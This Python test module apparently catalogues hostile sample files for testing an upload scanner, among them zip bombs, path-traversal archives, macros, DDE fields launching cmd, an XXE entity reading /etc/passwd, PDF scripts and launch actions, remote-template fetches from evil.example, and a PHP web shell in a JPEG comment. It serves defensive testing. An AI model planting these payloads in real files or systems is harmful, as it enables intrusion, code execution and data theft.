"""Every hostile file we know how to make: its name, how it is made, and what must be found in it."""

import base64
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf

from tests.security.hostile_files import making as m

Make = Callable[[], bytes]


@dataclass(frozen=True, slots=True)
class Case:
    what: str
    name: str
    make: Make
    code: str = ""
    """What is found; empty: nothing, and the file is kept."""


EICAR = base64.b64decode(
    "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)
PROGRAM = b"MZ\x90\0\x03\0\0\0" + b"\0" * 200
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MACRO = {"word/vbaProject.bin": b"\xd0\xcf"}
DESCRIBED = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'


def _word_rel(kind: str, target: str) -> Make:
    return lambda: m.with_parts(m.word(), {"word/_rels/settings.xml.rels": m.relations(kind, target)})


def _zip_entry(name: str, *, link: bool = False, flag: int = 0, packing: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        one = zipfile.ZipInfo(name)
        if link:
            one.external_attr = 0o120777 << 16
        archive.writestr(one, b"/etc/passwd")
    data = bytearray(out.getvalue())
    for at, offset in ((data.find(b"PK\x03\x04"), 6), (data.find(b"PK\x01\x02"), 8)):
        if flag:
            struct.pack_into("<H", data, at + offset, flag)
        if packing:
            struct.pack_into("<H", data, at + offset + 2, packing)
    return bytes(data)


def _overlapping() -> bytes:
    """Two names in the directory that point at the same bytes, as in the bomb that needs no nesting."""
    data = bytearray(m.zipped({"a.txt": b"a" * 5000, "b.txt": b"b" * 5000}, stored=True))
    second = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, second + 42, 100)
    return bytes(data)


def _nul_in_name() -> bytes:
    return m.zipped({"aXb.txt": b"x"}).replace(b"aXb.txt", b"a\0b.txt")


def _nested(depth: int) -> bytes:
    data = m.zipped({"a.txt": b"Tia"})
    for number in range(depth):
        data = m.zipped({f"{number}.zip": data})
    return data


def _locked_pdf() -> bytes:
    return m.pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def _pdf_with_file() -> bytes:
    out, made = io.BytesIO(), pikepdf.new()
    made.add_blank_page()
    made.attachments["run.exe"] = pikepdf.AttachedFileSpec(made, PROGRAM, filename="run.exe")
    made.save(out)
    return out.getvalue()


def _name(kind: str) -> pikepdf.Name:
    return pikepdf.Name(f"/{kind}")


def _xlsx(path: str, data: bytes) -> Make:
    return lambda: m.with_parts(m.sheet(), {path: data})


def _open(**action: object) -> Make:
    return lambda: m.pdf(root={"/OpenAction": m.action(**action)})


def _link(**action: object) -> Make:
    note = {"Type": _name("Annot"), "Subtype": _name("Link"), "Rect": [0, 0, 1, 1]}
    return lambda: m.pdf(page={"/Annots": pikepdf.Array([pikepdf.Dictionary(**note, A=m.action(**action))])})


def _annotation(kind: str) -> Make:
    note = pikepdf.Dictionary(Type=_name("Annot"), Subtype=_name(kind), Rect=[0, 0, 1, 1])
    return lambda: m.pdf(page={"/Annots": pikepdf.Array([note])})


KINDS = (
    "exe", "dll", "scr", "com", "bat", "cmd", "ps1", "vbs", "js", "jse", "wsf", "hta", "lnk", "url", "iso", "img", "vhd", "msi",
    "jar", "reg", "chm", "one", "xll", "iqy", "slk", "svg", "html", "htm", "xhtml", "mht", "mhtml", "swf", "apk", "dmg", "sh", "py",
    "7z", "rar", "cab", "ics", "dotx", "xlsb", "docb",
)  # fmt: skip

NAMES = [
    Case("a name turned round: it reads as a picture", "Tia\u202egnp.exe", lambda: PROGRAM, "name-hides"),
    Case("a name with a sign that has no width", "report\u200b.pdf", m.pdf, "name-hides"),
    Case("a name with a NUL", "report.exe\0.pdf", m.pdf, "name-hides"),
    Case("a name with a new line", "report\n.pdf", m.pdf, "name-hides"),
    Case("a name that ends with a dot", "report.pdf.", m.pdf, "name-hides"),
    Case("a name that ends with a space", "report.pdf ", m.pdf, "name-hides"),
    Case("a name that begins with a dot alone", ".pdf", m.pdf, "name-hides"),
    Case("a name that climbs out of the folder", "../../etc/passwd.txt", lambda: b"Tia", "name-path"),
    Case("a name that climbs out as Windows does", "..\\..\\run.txt", lambda: b"Tia", "name-path"),
    Case("a name from the root", "/etc/cron.txt", lambda: b"Tia", "name-path"),
    Case("a name on a drive", "c:run.txt", lambda: b"Tia", "name-path"),
    Case("a name with a second stream", "notes.txt:run.exe", lambda: b"Tia", "name-path"),
    Case("a name of 4,000 characters", "a" * 4000 + ".txt", lambda: b"Tia", "name-long"),
    Case("a name of 201 characters", "a" * 197 + ".txt", lambda: b"Tia", "name-long"),
    Case("a device of Windows", "con.txt", lambda: b"Tia", "name-device"),
    Case("a printer of Windows", "LPT1.pdf", m.pdf, "name-device"),
    Case("no ending", "report", m.pdf, "kind"),
    Case("a second ending that runs", "report.pdf.exe", lambda: PROGRAM, "kind"),
    *(Case(f"a .{kind} file", f"report.{kind}", lambda: PAGE, "kind") for kind in KINDS),
]  # fmt: skip
LIES = [
    Case("nothing at all", "report.pdf", lambda: b"", "empty"),
    Case("a program called PDF", "report.pdf", lambda: PROGRAM, "not-what-it-says"),
    Case("a program called picture", "photo.png", lambda: PROGRAM, "not-what-it-says"),
    Case("a program called text", "notes.txt", lambda: PROGRAM, "not-what-it-says"),
    Case("a program called Word", "report.docx", lambda: PROGRAM, "not-what-it-says"),
    Case("a program called sound", "song.mp3", lambda: PROGRAM, "not-what-it-says"),
    Case("a page called text", "notes.txt", lambda: PAGE, "kind"),
    Case("a page called table", "table.csv", lambda: PAGE, "kind"),
    Case("a drawing with a script called text", "notes.txt", lambda: SVG, "kind"),
    Case("a drawing called XML", "drawing.xml", lambda: SVG, "kind"),
    Case("a page called XML", "page.xml", lambda: b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "kind"),
    Case("a page inside XML", "page.xml", lambda: b'<a><b xmlns="http://www.w3.org/1999/xhtml"/></a>', "kind"),
    Case("a shortcut called text", "site.txt", lambda: b"[InternetShortcut]\r\nURL=file://x/run.exe", "kind"),
    Case("a saved page (MHT) called text", "page.txt", lambda: b"Content-Type: multipart/related; boundary=x\n\n", "kind"),
    Case("a PDF called picture", "photo.jpg", m.pdf, "not-what-it-says"),
    Case("a picture called PDF", "report.pdf", m.picture, "not-what-it-says"),
    Case("Excel called Word", "report.docx", m.sheet, "not-what-it-says"),
    Case("Word called Excel", "table.xlsx", m.word, "not-what-it-says"),
    Case("a zip called Word", "report.docx", lambda: m.zipped({"a.txt": b"Tia"}), "not-what-it-says"),
    Case("a table of OpenDocument called text", "report.odt", lambda: m.odf("application/vnd.oasis.opendocument.spreadsheet"), "not-what-it-says"),
    Case("an old Excel called old Word", "report.doc", lambda: m.ole({"Workbook": b"x"}), "not-what-it-says"),
    Case("text called a mail", "mail.eml", lambda: b"Dear Priya, he is back.", "not-what-it-says"),
    Case("the scanners' test file", "notes.txt", lambda: EICAR, "virus"),
    Case("the scanners' test file, zipped", "notes.zip", lambda: m.zipped({"a.txt": EICAR}), "virus"),
    Case("the scanners' test file in a mail", "mail.eml", lambda: m.mail(("a.txt", EICAR)), "virus"),
]  # fmt: skip
ZIPS = [
    Case("a bomb", "photos.zip", lambda: m.zipped({"a.txt": b"\0" * 30_000_000}), "zip-bomb"),
    Case("a bomb called Word", "report.docx", lambda: m.with_parts(m.word(), {"word/media/a.bin": b"\0" * 30_000_000}), "zip-bomb"),
    Case("a bomb called Excel", "table.xlsx", lambda: m.with_parts(m.sheet(), {"xl/media/a.bin": b"\0" * 30_000_000}), "zip-bomb"),
    Case("a bomb inside a zip", "photos.zip", lambda: m.zipped({"b.zip": m.zipped({"a.txt": b"\0" * 30_000_000})}), "zip-bomb"),
    Case("2,001 files", "photos.zip", lambda: m.zipped({f"{n}.txt": b"a" for n in range(2001)}), "zip-many"),
    Case("four zips within each other", "photos.zip", lambda: _nested(4), "zip-nested"),
    Case("files that lie over each other", "photos.zip", _overlapping, "zip-overlap"),
    Case("a file that climbs out", "photos.zip", lambda: _zip_entry("../../run.txt"), "zip-path"),
    Case("a file that climbs out as Windows does", "photos.zip", lambda: _zip_entry("..\\run.txt"), "zip-path"),
    Case("a file from the root", "photos.zip", lambda: _zip_entry("/etc/run.txt"), "zip-path"),
    Case("a file on a drive", "photos.zip", lambda: _zip_entry("c:run.txt"), "zip-path"),
    Case("a file with a NUL in its name", "photos.zip", _nul_in_name, "zip-path"),
    Case("a pointer in place of a file", "photos.zip", lambda: _zip_entry("a.txt", link=True), "zip-link"),
    Case("one name twice", "photos.zip", lambda: m.zipped({"a.txt": b"1", "b.txt": b"2"}).replace(b"b.txt", b"a.txt"), "zip-twice"),
    Case("packed in a way that we do not know", "photos.zip", lambda: _zip_entry("a.txt", packing=97), "zip-odd"),
    Case("locked with a password", "photos.zip", lambda: _zip_entry("a.txt", flag=1), "locked"),
    Case("a program in a zip", "photos.zip", lambda: m.zipped({"run.exe": PROGRAM}), "kind"),
    Case("a page in a zip", "photos.zip", lambda: m.zipped({"page.html": PAGE}), "kind"),
    Case("a shortcut in a zip", "photos.zip", lambda: m.zipped({"photo.lnk": b"L\0\0\0"}), "kind"),
    Case("a PDF with a script in a zip in a zip", "photos.zip", lambda: m.zipped({"b.zip": m.zipped({"r.pdf": _open(kind="JavaScript", JS="app.alert(1)")()})}), "pdf-script"),
    Case("something stuck before a zip", "photos.zip", lambda: b"PK\x03\x04" + b"\0" * 60 + m.zipped({"a.txt": b"Tia"}), "two-in-one"),
    Case("something stuck behind a zip", "photos.zip", lambda: m.zipped({"a.txt": b"Tia"}) + PAGE, "two-in-one"),
    Case("a zip cut short", "photos.zip", lambda: m.zipped({"a.txt": b"Tia" * 99})[:60], "broken"),
    Case("a zip whose words were changed", "photos.zip", lambda: m.zipped({"a.txt": b"Tia is well"}, stored=True).replace(b"Tia is well", b"Tia is home"), "broken"),
]  # fmt: skip
OFFICE = [
    Case("a macro in a file that says so", "order.docm", lambda: m.with_parts(m.word(), MACRO), "macro"),
    Case("a file for macros, with none", "order.docm", m.word, "macro"),
    Case("a macro in a template", "order.dotm", lambda: m.with_parts(m.word(), MACRO), "macro"),
    Case("a macro in Excel", "table.xlsm", lambda: m.with_parts(m.sheet(), {"xl/vbaProject.bin": b"x"}), "macro"),
    Case("a macro in slides", "talk.pptm", lambda: m.slides(extra={"ppt/vbaProject.bin": b"x"}), "macro"),
    Case("a macro file called Word", "order.docx", lambda: m.with_parts(m.word(), MACRO), "macro"),
    Case("a macro file called Excel", "table.xlsx", lambda: m.with_parts(m.sheet(), {"xl/vbaProject.bin": b"x"}), "macro"),
    Case("a sheet of old macros", "table.xlsx", _xlsx("xl/macrosheets/sheet1.xml", b"<xm/>"), "macro"),
    Case("a macro only the list of parts tells of", "order.docx", lambda: m.with_parts(m.word(), {"[Content_Types].xml": m.part(m.word(), "[Content_Types].xml").replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")}), "macro"),
    Case("a macro in OpenDocument", "report.odt", lambda: m.odf(extra={"Basic/Standard/Module1.xml": b"<x/>"}), "macro"),
    Case("a script in OpenDocument", "report.odt", lambda: m.odf(extra={"Scripts/python/a.py": b"import os"}), "macro"),
    Case("a macro in old Word", "order.doc", lambda: m.ole({"WordDocument": b"w", "Macros/VBA/dir": b"x"}), "macro"),
    Case("a macro in old Excel", "table.xls", lambda: m.ole({"Workbook": b"w", "_VBA_PROJECT_CUR/VBA/dir": b"x"}), "macro"),
    Case("old Word with a package", "order.doc", lambda: m.ole({"WordDocument": b"w", "ObjectPool/_1/\x01Ole10Native": b"x"}), "embedded"),
    Case("old slides with a program", "talk.ppt", lambda: m.ole({"PowerPoint Document": b"p", "\x01Ole10Native": PROGRAM}), "embedded"),
    Case("Word with a password", "order.docx", lambda: m.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}), "locked"),
    Case("old Word with a password", "order.doc", lambda: m.ole({"EncryptedPackage": b"x"}), "locked"),
    Case("OpenDocument with a password", "report.odt", lambda: m.odf(extra={"META-INF/manifest.xml": b"<m><encryption-data/></m>"}), "locked"),
    Case("a template fetched from elsewhere", "report.docx", _word_rel("attachedTemplate", "https://evil.example/t.dotm"), "outside"),
    Case("a picture fetched from elsewhere", "report.docx", _word_rel("image", "https://evil.example/p.png"), "outside"),
    Case("a picture fetched from a share", "report.docx", _word_rel("image", "file://evil.example/p.png"), "outside"),
    Case("a frame fetched from elsewhere", "report.docx", _word_rel("frame", "https://evil.example/f.htm"), "outside"),
    Case("an object fetched from elsewhere", "report.docx", _word_rel("oleObject", "https://evil.example/o"), "outside"),
    Case("another sheet fetched from elsewhere", "table.xlsx", _xlsx("xl/externalLinks/_rels/externalLink1.xml.rels", m.relations("externalLinkPath", "https://evil.example/b.xlsx")), "outside"),
    Case("slides that fetch", "talk.pptx", lambda: m.slides(extra={"ppt/slides/_rels/slide1.xml.rels": m.relations("video", "https://evil.example/v.mp4")}), "outside"),
    Case("OpenDocument that fetches a picture", "report.odt", lambda: m.odf(content='<draw:image xlink:href="https://evil.example/p.png"/>'), "outside"),
    Case("OpenDocument that fetches an object", "report.odt", lambda: m.odf(content='<draw:object xlink:href="../../secret"/>'), "outside"),
    Case("an object in Word", "report.docx", lambda: m.with_parts(m.word(), {"word/embeddings/oleObject1.bin": PROGRAM}), "embedded"),
    Case("a program among what is embedded", "report.docx", lambda: m.with_parts(m.word(), {"word/embeddings/run.bin": PROGRAM}), "embedded"),
    Case("a macro file among what is embedded", "report.docx", lambda: m.with_parts(m.word(), {"word/embeddings/a.docx": m.with_parts(m.word(), MACRO)}), "macro"),
    Case("a page taken into Word", "report.docx", lambda: m.with_parts(m.word(), {"word/_rels/a.xml.rels": m.relations("aFChunk", "page.html", outside=False)}), "embedded"),
    Case("an object in OpenDocument", "report.odt", lambda: m.odf(content='<draw:object-ole xlink:href="./Object 1"/>'), "embedded"),
    Case("controls that run", "report.docx", lambda: m.with_parts(m.word(), {"word/activeX/activeX1.bin": b"x"}), "active"),
    Case("a field that starts a program", "report.docx", lambda: m.field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "dde"),
    Case("the same, cut into pieces", "report.docx", lambda: m.field("DD", "EAU", "TO cmd"), "dde"),
    Case("a simple field that starts a program", "report.docx", lambda: m.with_parts(m.word(), {"word/header1.xml": b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldSimple w:instr="DDE cmd"/></w:hdr>'}), "dde"),
    Case("a cell that starts a program", "table.xlsx", lambda: m.sheet(formula="=cmd|'/c calc'!A0"), "dde"),
    Case("a link between sheets that starts a program", "table.xlsx", _xlsx("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'), "dde"),
    Case("OpenDocument that starts a program", "report.odt", lambda: m.odf(content='<text:dde-connection-decl office:name="a"/>'), "dde"),
    Case("a file of the computer read into Word", "report.docx", lambda: m.with_parts(m.word(), {"word/document.xml": DESCRIBED}), "xml-entity"),
    Case("a file of the computer read into Excel", "table.xlsx", _xlsx("xl/styles.xml", DESCRIBED), "xml-entity"),
    Case("a laugh a billion times", "table.xml", lambda: LAUGHS, "xml-entity"),
    Case("a file of the computer read into XML", "table.xml", lambda: DESCRIBED, "xml-entity"),
    Case("the same in UTF-16", "table.xml", lambda: DESCRIBED.decode().encode("utf-16"), "xml-entity"),
    Case("XML 200,000 deep", "table.xml", lambda: b"<a>" * 200_000 + b"</a>" * 200_000, "broken"),
    Case("XML cut short", "table.xml", lambda: b"<a><b></a>", "broken"),
    Case("an object in RTF", "report.rtf", lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "embedded"),
    Case("an object in RTF, cut apart", "report.rtf", lambda: b"{\\rtf1{\\obj\r\ndata 0105}}", "embedded"),
    Case("RTF that fetches its template", "report.rtf", lambda: b"{\\rtf1{\\*\\template http://evil.example/t}}", "outside"),
    Case("RTF that starts a program", "report.rtf", lambda: b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}", "dde"),
]  # fmt: skip
PDFS = [
    Case("a script when it opens", "report.pdf", _open(kind="JavaScript", JS="app.alert(1)"), "pdf-script"),
    Case("a script on a page", "report.pdf", lambda: m.pdf(page={"/AA": pikepdf.Dictionary(O=m.action("JavaScript", JS="1"))}), "pdf-script"),
    Case("a script among the names", "report.pdf", lambda: m.pdf(root={"/Names": pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())}), "pdf-script"),
    Case("a script behind a link", "report.pdf", _link(kind="JavaScript", JS="1"), "pdf-script"),
    Case("a script in a packed object", "report.pdf", lambda: m.pdf(root={"/OpenAction": m.action("JavaScript", JS="1")}, object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf-script"),
    Case("a program started", "report.pdf", _open(kind="Launch", F="cmd.exe"), "pdf-launch"),
    Case("a program behind a link", "report.pdf", _link(kind="Launch", F="cmd.exe"), "pdf-launch"),
    Case("another file opened", "report.pdf", _open(kind="GoToR", F="\\\\evil.example\\a"), "pdf-launch"),
    Case("a file inside it opened", "report.pdf", _link(kind="GoToE", F="a"), "pdf-launch"),
    Case("data fetched", "report.pdf", _open(kind="ImportData", F="a.fdf"), "pdf-launch"),
    Case("a file attached", "report.pdf", _pdf_with_file, "pdf-files"),
    Case("a list of files", "report.pdf", lambda: m.pdf(root={"/Names": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())}), "pdf-files"),
    Case("a form that sends itself", "report.pdf", _link(kind="SubmitForm", F="https://evil.example"), "pdf-form"),
    Case("a form of another sort (XFA)", "report.pdf", lambda: m.pdf(root={"/AcroForm": pikepdf.Dictionary(XFA="x")}), "pdf-form"),
    Case("media that play", "report.pdf", _annotation("RichMedia"), "pdf-media"),
    Case("a film in it", "report.pdf", _annotation("Movie"), "pdf-media"),
    Case("a model in it", "report.pdf", _annotation("3D"), "pdf-media"),
    Case("a password", "report.pdf", _locked_pdf, "locked"),
    Case("a page behind it", "report.pdf", lambda: m.pdf() + PAGE, "two-in-one"),
    Case("a page within its first lines", "report.pdf", lambda: m.pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<script>alert(1)</script>\n").replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<script>1</script>\n").replace(b"%PDF-1.5\n", b"%PDF-1.5\n%<script>1</script>\n"), "two-in-one"),
    Case("a zip behind it", "report.pdf", lambda: m.pdf() + m.zipped({"run.exe": PROGRAM}), "two-in-one"),
    Case("a program behind it", "report.pdf", lambda: m.pdf() + PROGRAM.replace(b"\0", b"A"), "two-in-one"),
    Case("cut short", "report.pdf", lambda: m.pdf()[:200], "broken"),
    Case("words that only begin so", "report.pdf", lambda: b"%PDF-1.7\nnothing\n%%EOF", "broken"),
]  # fmt: skip
PICTURES = [
    Case("50,000 by 50,000 points in 200 bytes", "photo.png", lambda: m.png_that_says(50_000, 50_000), "image-huge"),
    Case("61 million points", "photo.png", lambda: m.png_that_says(8_000, 7_700), "image-huge"),
    Case("a JPEG cut short", "photo.jpg", lambda: m.picture("JPEG", (400, 300))[:700], "broken"),
    Case("a PNG cut short", "photo.png", lambda: m.picture()[:50] + b"IEND\xaeB`\x82", "broken"),
    Case("a picture that is only its first bytes", "photo.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 40, "broken"),
    Case("a GIF that is a script", "photo.gif", lambda: b"GIF89a=1;alert(1);", "broken"),
    Case("a GIF that is a Java program", "photo.gif", lambda: m.picture("GIF") + m.zipped({"A.class": b"\xca\xfe"}), "two-in-one"),
    Case("a JPEG that is a zip", "photo.jpg", lambda: m.picture("JPEG") + m.zipped({"run.exe": PROGRAM}), "two-in-one"),
    Case("a PNG with a page behind it", "photo.png", lambda: m.picture() + PAGE, "two-in-one"),
    Case("a PNG with bytes behind it", "photo.png", lambda: m.picture() + b"A" * 64, "two-in-one"),
    Case("a GIF with bytes behind it", "photo.gif", lambda: m.picture("GIF") + b"A" * 64, "two-in-one"),
    Case("a BMP with bytes behind it", "photo.bmp", lambda: m.picture("BMP") + b"A" * 64, "two-in-one"),
    Case("a WEBP with bytes behind it", "photo.webp", lambda: m.picture("WEBP") + b"A" * 64, "two-in-one"),
    Case("a JPEG whose remark is PHP", "photo.jpg", lambda: m.picture("JPEG", comment=b"<?php system($_GET[0]); ?>"), "two-in-one"),
    Case("a sound with a page in it", "song.wav", lambda: m.wav() + PAGE, "two-in-one"),
    Case("a sound with bytes behind it", "song.wav", lambda: m.wav() + b"A" * 64, "two-in-one"),
    Case("a sound that is a zip", "song.mp3", lambda: m.mp3() + m.zipped({"a.txt": b"x"}), "two-in-one"),
    Case("a film cut short", "film.mp4", lambda: m.boxes(b"isom")[:40], "broken"),
    Case("a film that is a zip", "film.mp4", lambda: m.boxes(b"isom") + m.zipped({"a.txt": b"x"}), "two-in-one"),
    Case("a sound that is no sound", "song.wav", lambda: b"RIFF\x10\0\0\0AVI " + b"\0" * 12, "broken"),
    Case("an MP3 that is only its label", "song.mp3", lambda: b"ID3\x04\0\0\0\0\0\x0a" + b"\0" * 40, "broken"),
]  # fmt: skip
MAILS = [
    Case("a program attached", "mail.eml", lambda: m.mail(("run.exe", PROGRAM)), "kind"),
    Case("a macro attached", "mail.eml", lambda: m.mail(("order.docm", m.with_parts(m.word(), MACRO))), "macro"),
    Case("a page attached", "mail.eml", lambda: m.mail(("page.html", PAGE)), "kind"),
    Case("a bomb attached", "mail.eml", lambda: m.mail(("a.zip", m.zipped({"a.txt": b"\0" * 30_000_000}))), "zip-bomb"),
    Case("a mail with a program attached", "mail.eml", lambda: m.mail(("inner.eml", m.mail(("run.scr", PROGRAM)))), "kind"),
    Case("mails within mails within mails", "mail.eml", lambda: m.mail(("a.eml", m.mail(("b.eml", m.mail(("c.eml", m.mail(("d.eml", m.mail()))))))))  , "zip-nested"),
    Case("a name turned round", "mail.eml", lambda: m.mail(("Tia\u202egnp.exe", PROGRAM)), "name-hides"),
    Case("Outlook: a program attached", "mail.msg", lambda: m.message(run__exe=PROGRAM), "kind"),
    Case("Outlook: a PDF with a script", "mail.msg", lambda: m.message(report__pdf=_open(kind="JavaScript", JS="1")()), "pdf-script"),
    Case("Outlook: a macro", "mail.msg", lambda: m.message(order__docm=m.with_parts(m.word(), MACRO)), "macro"),
    Case("Outlook: cut short", "mail.msg", lambda: m.message()[:700], "broken"),
]  # fmt: skip
BAD = [*NAMES, *LIES, *ZIPS, *OFFICE, *PDFS, *PICTURES, *MAILS]
